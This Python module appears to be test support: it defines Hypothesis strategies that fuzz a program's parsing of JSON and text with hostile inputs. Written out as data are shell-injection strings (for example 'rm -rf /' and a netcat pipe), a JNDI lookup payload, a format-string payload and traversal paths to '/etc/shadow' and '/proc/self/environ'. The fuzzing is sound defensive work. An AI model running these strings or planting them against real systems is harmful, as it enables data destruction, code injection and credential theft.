"""What somebody could put in a place that we read: the classes of input that docs/security.md names.

`json_values` is anything that JSON can hold, `hostile_text` what breaks programs that trust text: metacharacters of
shells, placeholders of the languages that text passes through, control characters, half characters, sheer length.
"""

import json
from typing import Any

from hypothesis import strategies as st

SHELL = (
    "; rm -rf /",
    "$(reboot)",
    "`id`",
    "| nc 1.2.3.4 1",
    "&& halt",
    "> /etc/passwd",
    "\nreboot\n",
    "'",
    '"',
    "\\",
    "*",
)
PLACEHOLDERS = (
    "{{ Cluster }}",
    "{{ssm:/quorate/demo/config}}",
    "${jndi:ldap://x}",
    "{% $states.input %}",
    "%s%n",
    "$.token",
)
BYTES = ("\x00", "\x1b[2J", "\u202e", "\ufeff", "\ud800", "\udfff", "i\u0307", "\r\n", "\u2028")
LONG = ("A" * 24_000, "[" * 24_000, '{"a":' * 4_000, "9" * 5_000, "-" * 4_096)
PATHS = ("../../etc/shadow", "/proc/self/environ", "file:///etc/passwd", "s3://other/key", "nodes/i-0/../../x")

hostile_text = st.one_of(
    st.sampled_from(SHELL + PLACEHOLDERS + BYTES + LONG + PATHS),
    st.tuples(st.text(max_size=12), st.sampled_from(SHELL + PLACEHOLDERS + BYTES)).map("".join),
    st.text(max_size=40),
)
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), hostile_text)
json_values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile_text, inner, max_size=3), max_leaves=8
)


def nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = {"a": value}
    return value


@st.composite
def bent(draw: st.DrawFn, good: dict[str, Any]) -> dict[str, Any]:
    """`good` with some of its values replaced, left out, or joined by others, at any depth."""
    content: dict[str, Any] = json.loads(json.dumps(good))
    for _ in range(draw(st.integers(1, 3))):
        place = content
        while True:
            key = draw(st.sampled_from(sorted(place, key=str))) if place else "more"
            inner = place.get(key)
            if not isinstance(inner, dict) or draw(st.booleans()):
                break
            place = inner
        match draw(st.sampled_from(("replace", "replace", "drop", "add"))):
            case "replace":
                place[key] = draw(json_values)
            case "drop":
                place.pop(key, None)
            case _:
                place[draw(hostile_text)] = draw(json_values)
    return content
